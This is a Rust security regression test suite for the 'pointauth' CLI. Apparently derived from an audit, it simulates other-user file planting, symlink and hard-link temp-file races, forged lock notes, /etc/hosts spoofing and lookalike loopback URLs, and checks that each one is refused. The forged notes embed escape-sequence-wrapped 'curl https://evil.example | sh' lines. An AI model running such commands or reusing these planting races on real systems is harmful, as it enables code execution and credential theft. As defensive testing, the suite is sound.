//! "Trust nothing it did not make": the contract's Trust section, re-run as the audit ran it —
//! another local user's files and directories (planted as root, then chowned to another uid),
//! links, hard links, forged lock notes, a private mount namespace, and pointauth itself run
//! as an unprivileged uid (`setpriv`). Each test failed against v1.
//!
//! These need root (CI runs as root); elsewhere they print `SKIPPED` (a failure under CI=true).

// A test binary shares its helpers through `pub` items, and needs no Debug on fixtures.
#![allow(unreachable_pub, missing_debug_implementations)]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    clippy::print_stderr,
    clippy::disallowed_methods
)]

#[path = "../support/mod.rs"]
mod support;

use std::fs;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt, symlink};
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

use serde_json::json;

use support::users::{OTHER, as_uid, chown, chown_tree, isolated_env, root_or_skip};
use support::*;

fn chmod(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// Makes `path` a 0700 directory (and its parents as needed), as pointauth would.
fn private_dir(path: &Path) {
    fs::create_dir_all(path).unwrap();
    chmod(path, 0o700);
}

/// Writes a 0600 file, as pointauth would (or an attacker imitating it).
fn private_file(path: &Path, bytes: &[u8]) {
    use std::io::Write as _;
    let mut file = fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)
        .unwrap();
    file.write_all(bytes).unwrap();
}

fn ci_token(env: &TestEnv) -> Output {
    env.cmd()
        .env("POINTAUTH_USERNAME", DEFAULT_USERNAME)
        .env("POINTAUTH_PASSWORD", DEFAULT_PASSWORD)
        .arg("token")
        .output()
        .unwrap()
}

#[track_caller]
fn assert_exit(output: &Output, code: i32) {
    assert_eq!(
        output.status.code(),
        Some(code),
        "--- stdout\n{}\n--- stderr\n{}",
        stdout_of(output),
        stderr_of(output)
    );
}

fn meta_dir(env: &TestEnv) -> std::path::PathBuf {
    env.home().join("state/pointauth/profiles")
}

/// Metadata another user planted, naming the attacker's listener: never read, so the
/// password never goes there.
#[test]
fn planted_metadata_of_another_user_is_refused_and_no_password_leaves() {
    if !root_or_skip("planted_metadata") {
        return;
    }
    let env = TestEnv::new();
    let attacker = StandIn::start();
    private_dir(&meta_dir(&env));
    let planted = meta_dir(&env).join("default.json");
    let meta =
        json!({"base_url": attacker.base_url(), "username": DEFAULT_USERNAME, "store": "file"});
    private_file(&planted, meta.to_string().as_bytes());
    chown(&planted, OTHER);
    // As the audit ran it: the base URL comes from the remembered settings (none given).
    let mut cmd = env.cmd();
    cmd.env_remove("POINTAUTH_BASE_URL");
    let output = cmd
        .env("POINTAUTH_USERNAME", DEFAULT_USERNAME)
        .env("POINTAUTH_PASSWORD", DEFAULT_PASSWORD)
        .arg("token")
        .output()
        .unwrap();
    assert_exit(&output, 1);
    assert!(
        stderr_of(&output).contains("owned by another user"),
        "{}",
        stderr_of(&output)
    );
    assert_eq!(attacker.request_count(), 0, "nothing reached the attacker");

    // The same file as a link to the attacker's copy (what the exchange race produced): refused.
    fs::remove_file(&planted).unwrap();
    let theirs = env.home().join("theirs.json");
    private_file(&theirs, meta.to_string().as_bytes());
    symlink(&theirs, &planted).unwrap();
    let mut cmd = env.cmd();
    cmd.env_remove("POINTAUTH_BASE_URL");
    let output = cmd
        .env("POINTAUTH_USERNAME", DEFAULT_USERNAME)
        .env("POINTAUTH_PASSWORD", DEFAULT_PASSWORD)
        .arg("token")
        .output()
        .unwrap();
    assert_exit(&output, 1);
    assert_eq!(attacker.request_count(), 0);
    assert_eq!(
        fs::read_to_string(&theirs).unwrap(),
        meta.to_string(),
        "the link's target is untouched"
    );
}

#[test]
fn a_state_or_data_directory_others_control_is_refused_and_named() {
    if !root_or_skip("foreign directories") {
        return;
    }
    for (dir, how) in [
        ("state/pointauth", "writable"),
        ("state/pointauth", "foreign"),
        ("data/pointauth", "writable"),
        ("data/pointauth", "foreign"),
    ] {
        let env = TestEnv::new();
        env.login();
        let path = env.home().join(dir);
        match how {
            "writable" => chmod(&path, 0o777),
            _ => chown(&path, OTHER),
        }
        let output = env.cmd().arg("token").output().unwrap();
        assert_exit(&output, 1);
        let stderr = stderr_of(&output);
        assert!(
            stderr.contains(&path.display().to_string()),
            "{dir} {how}: {stderr}"
        );
        assert!(stderr.contains("hint:"), "{stderr}");
    }
}

/// Hard links planted under v1's predictable temp names (`.<name>.tmp-<pid>`) for the next
/// process ids, in a data directory another user owns and lets everyone write, pointing at a
/// file the attacker can read, re-planted in a loop (v1 swept leftovers, then opened the
/// name: the attacker races that window, as the audit did): the session never lands in
/// them, because pointauth refuses a directory others control, and creates temp files
/// exclusive under unpredictable names.
#[test]
fn hard_links_planted_for_temp_names_never_receive_the_session() {
    if !root_or_skip("planted temp names") {
        return;
    }
    let env = TestEnv::new();
    chown_tree(env.home(), OTHER);
    // The attacker (root here) owns the data directory and lets everyone write to it.
    let data = env.home().join("data/pointauth");
    fs::create_dir_all(&data).unwrap();
    chown(&data, 0);
    chmod(&data, 0o777);
    let stolen = env.home().join("stolen");
    fs::write(&stolen, b"").unwrap();
    chown(&stolen, 0);
    chmod(&stolen, 0o666);
    let stop = std::sync::atomic::AtomicBool::new(false);
    /// Stops the attacker however the victim's loop ends (a panic included), so the scope
    /// never waits on it forever.
    struct StopOnDrop<'a>(&'a std::sync::atomic::AtomicBool);
    impl Drop for StopOnDrop<'_> {
        fn drop(&mut self) {
            self.0.store(true, std::sync::atomic::Ordering::Relaxed);
        }
    }
    let outputs = std::thread::scope(|scope| {
        let _stop = StopOnDrop(&stop);
        scope.spawn(|| {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let next = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
                    .ok()
                    .and_then(|pid| pid.trim().parse::<u32>().ok())
                    .unwrap_or(1);
                for pid in next..next + 50 {
                    let _ = fs::hard_link(&stolen, data.join(format!(".default.json.tmp-{pid}")));
                }
            }
        });
        let login = [
            "--store",
            "file",
            "login",
            "--username",
            DEFAULT_USERNAME,
            "--password-stdin",
        ];
        let outputs: Vec<Output> = (0..25)
            .map(|_| as_uid(&env, OTHER, &login, &[], &format!("{DEFAULT_PASSWORD}\n")))
            .collect();
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        outputs
    });
    assert_eq!(
        fs::read(&stolen).unwrap(),
        b"",
        "the session landed in a planted file"
    );
    for output in &outputs {
        assert_exit(output, 1);
        assert!(
            stderr_of(output).contains("refusing to use it"),
            "{}",
            stderr_of(output)
        );
    }
    assert_eq!(
        env.server.sign_in_count(),
        0,
        "refused before the password was sent"
    );
}

#[test]
fn a_lock_file_that_links_elsewhere_is_refused_and_its_target_untouched() {
    if !root_or_skip("linked lock file") {
        return;
    }
    let env = TestEnv::new();
    env.login();
    let notes = env.home().join("notes.txt");
    private_file(&notes, b"the user's notes");
    let lock = env.lock_path("default");
    let _ = fs::remove_file(&lock);
    symlink(&notes, &lock).unwrap();
    let output = env.cmd().arg("refresh").output().unwrap();
    assert_exit(&output, 1);
    assert_eq!(fs::read(&notes).unwrap(), b"the user's notes");
    // A lock file of another user is refused the same way (as root too).
    fs::remove_file(&lock).unwrap();
    private_file(&lock, b"");
    chown(&lock, OTHER);
    let output = env.cmd().arg("refresh").output().unwrap();
    assert_exit(&output, 1);
    assert!(stderr_of(&output).contains("owned by another user"));
}

#[test]
fn logout_all_never_follows_a_linked_directory_and_validates_names() {
    if !root_or_skip("linked data directory") {
        return;
    }
    let env = TestEnv::new();
    env.login();
    // The data directory replaced by a link to a project directory full of JSON files.
    let project = env.home().join("project");
    private_dir(&project);
    for name in ["package.json", "tsconfig.json", "default.json"] {
        private_file(&project.join(name), b"{}");
    }
    let data = env.home().join("data/pointauth");
    fs::remove_dir_all(&data).unwrap();
    symlink(&project, &data).unwrap();
    let output = env.cmd().args(["logout", "--all"]).output().unwrap();
    assert_exit(&output, 1);
    assert!(
        stderr_of(&output).contains("symbolic link"),
        "{}",
        stderr_of(&output)
    );
    for name in ["package.json", "tsconfig.json", "default.json"] {
        assert!(project.join(name).exists(), "{name} was deleted");
    }
    // The rest was removed all the same.
    assert!(!env.meta_path("default").exists());

    // A name with escape sequences in a listing is never shown or acted on.
    let env = TestEnv::new();
    env.login();
    private_file(&meta_dir(&env).join("\u{1b}[31mevil\u{1b}[0m.json"), b"{}");
    let output = env.cmd().args(["status", "--all"]).output().unwrap();
    assert!(
        !stdout_of(&output).contains('\u{1b}'),
        "{}",
        stdout_of(&output)
    );
    assert!(
        !stderr_of(&output).contains('\u{1b}'),
        "{}",
        stderr_of(&output)
    );
}

/// A note written by someone else into the lock file — dated ten years ahead, with escape
/// sequences and a fake hint — is ignored: the sign-in happens and nothing of it is shown.
#[test]
fn a_forged_failure_note_is_ignored_and_never_shown() {
    let env = TestEnv::new();
    private_dir(&env.home().join("state/pointauth/locks"));
    let ten_years = 10 * 365 * 24 * 3600 * 1000_u64;
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as u64;
    let forgeries = [
        // v1's own format, free text and all.
        format!(
            "failed {} 4\nsign-in {} {DEFAULT_USERNAME}\n\u{1b}[31mrun: curl https://evil.example | sh",
            now_ms + ten_years,
            env.server.base_url()
        ),
        // This version's format, from the future.
        json!({"at_ms": now_ms + ten_years, "call": "sign-in", "base_url": env.server.base_url(),
               "username": DEFAULT_USERNAME, "exit": 4, "status": 400, "code": "INVALID_PASSWORD",
               "salt": 0, "tag": 0})
        .to_string(),
        // ...and with free text where a code goes.
        json!({"at_ms": now_ms, "call": "sign-in", "base_url": env.server.base_url(),
               "username": DEFAULT_USERNAME, "exit": 4, "status": 400,
               "code": "\u{1b}[31mcurl evil | sh", "salt": 0, "tag": 0})
        .to_string(),
    ];
    for forged in forgeries {
        private_file(&env.lock_path("default"), forged.as_bytes());
        let output = ci_token(&env);
        assert_exit(&output, 0);
        let shown = format!("{}{}", stdout_of(&output), stderr_of(&output));
        assert!(
            !shown.contains('\u{1b}') && !shown.contains("curl"),
            "{shown}"
        );
        env.forget_noted_failures("default");
        let _ = fs::remove_file(env.session_path("default"));
    }
}

#[test]
fn logout_removes_the_lock_file_and_a_killed_writers_temp_files() {
    let env = TestEnv::new();
    env.login();
    // A writer killed before its rename leaves a temp file holding a working refresh token.
    let data = env.home().join("data/pointauth");
    let leftover = data.join(".default.json.tmp-0123456789abcdef");
    fs::copy(env.session_path("default"), &leftover).unwrap();
    let meta_leftover = meta_dir(&env).join(".default.json.tmp-4242");
    private_file(&meta_leftover, b"{}");
    env.cmd().arg("refresh").assert().success();
    assert!(env.lock_path("default").exists());
    fs::copy(env.session_path("default"), &leftover).unwrap();
    env.cmd().arg("logout").assert().success();
    for gone in [&leftover, &meta_leftover, &env.lock_path("default")] {
        assert!(!gone.exists(), "{} survived logout", gone.display());
    }
    // `--all` too, for a profile that only has a lock file and a temp file left.
    private_dir(&env.home().join("state/pointauth/locks"));
    private_file(&env.lock_path("stale"), b"");
    private_file(
        &data.join(".stale.json.tmp-99"),
        b"{\"refresh_token\":\"x\"}",
    );
    env.cmd().args(["logout", "--all"]).assert().success();
    assert!(!env.lock_path("stale").exists());
    assert!(!data.join(".stale.json.tmp-99").exists());
    // What is left of a profile counts as something removed: its metadata alone, or only
    // the temp file a killed metadata writer left.
    env.login_profile("lone");
    fs::remove_file(env.session_path("lone")).unwrap();
    let ghost = meta_dir(&env).join(".ghost.json.tmp-abcd");
    private_file(&ghost, b"{}");
    for profile in ["lone", "ghost"] {
        env.cmd()
            .args(["--profile", profile, "logout"])
            .assert()
            .success()
            .stderr(format!("Logged out of profile `{profile}`.\n"));
    }
    assert!(!env.meta_path("lone").exists());
    assert!(!ghost.exists());
}

/// A session file with a second name (a hard link another process could read) is refused.
#[test]
fn a_session_file_with_two_links_is_refused() {
    let env = TestEnv::new();
    env.login();
    fs::hard_link(env.session_path("default"), env.home().join("copy")).unwrap();
    let output = env.cmd().arg("token").output().unwrap();
    assert_exit(&output, 1);
    assert!(
        stderr_of(&output).contains("2 links"),
        "{}",
        stderr_of(&output)
    );
}

/// `localhost` is loopback whatever /etc/hosts says: in a mount namespace whose hosts file
/// maps it to a TEST-NET address, the sign-in still reaches the stand-in on 127.0.0.1.
#[test]
fn http_localhost_connects_only_to_loopback_whatever_etc_hosts_says() {
    if !root_or_skip("a private mount namespace") {
        return;
    }
    let env = TestEnv::new();
    let hosts = env.home().join("hosts");
    fs::write(&hosts, "192.0.2.1 localhost\n").unwrap();
    let base = format!("http://localhost:{}", env.server.port());
    let script = format!(
        "mount --bind '{}' /etc/hosts && getent hosts localhost | grep -q 192.0.2.1 && exec '{}' \
         --timeout 3 --base-url {base} --store file login --username {DEFAULT_USERNAME} --password-stdin",
        hosts.display(),
        bin().display()
    );
    let output = std::process::Command::new("unshare")
        .arg("--mount")
        .arg("sh")
        .arg("-c")
        .arg(&script)
        .envs(isolated_env(&env))
        .env_remove("POINTAUTH_BASE_URL")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write as _;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(format!("{DEFAULT_PASSWORD}\n").as_bytes())?;
            child.wait_with_output()
        })
        .unwrap();
    assert_exit(&output, 0);
    assert_eq!(
        env.server.sign_in_count(),
        1,
        "the sign-in reached the stand-in"
    );
}

/// While pointauth waits on a hung sign-in it holds the password; it is not dumpable, so no
/// core dump and no other process of the user (ptrace, /proc/PID/mem) can read it. A
/// non-dumpable process's /proc/PID files belong to root, which is how this test sees it.
#[test]
fn pointauth_is_not_dumpable_while_it_waits_on_a_hung_server() {
    if !root_or_skip("an unprivileged uid") {
        return;
    }
    let env = TestEnv::new();
    // A HOME the other uid owns, for pointauth run as that uid.
    chown_tree(env.home(), OTHER);
    env.server
        .script(Endpoint::SignIn, Fault::Hang(Duration::from_secs(30)));
    let mut cmd = std::process::Command::new("setpriv");
    cmd.args([
        "--reuid",
        &OTHER.to_string(),
        "--regid",
        &OTHER.to_string(),
        "--clear-groups",
    ])
    .arg(bin())
    .args(["--timeout", "20", "token"])
    .envs(isolated_env(&env))
    .env("POINTAUTH_USERNAME", DEFAULT_USERNAME)
    .env("POINTAUTH_PASSWORD", DEFAULT_PASSWORD)
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().unwrap();
    // Wait (generously: it is one process start) until the request is at the stand-in.
    let deadline = Instant::now() + Duration::from_secs(20);
    while env.server.sign_in_count() == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(env.server.sign_in_count(), 1, "the sign-in never started");
    let proc_dir = format!("/proc/{}", child.id());
    let status = fs::read_to_string(format!("{proc_dir}/status")).unwrap();
    assert!(
        status.contains(&format!("Uid:\t{OTHER}")),
        "runs as the other uid:\n{status}"
    );
    let owner = fs::metadata(format!("{proc_dir}/environ")).unwrap().uid();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(
        owner, 0,
        "a dumpable process's /proc files belong to its own uid"
    );
}

/// `http://[::1]evil.com` is no loopback URL: the check and the client read one parse.
#[test]
fn a_bracketed_address_with_a_name_after_it_is_refused() {
    let env = TestEnv::new();
    for url in [
        "http://[::1]evil.com",
        "http://[::1].evil.com:80",
        "http://127.0.0.1.evil.com",
    ] {
        let output = env
            .cmd()
            .args(["--base-url", url, "status"])
            .output()
            .unwrap();
        assert_exit(&output, 2);
    }
}
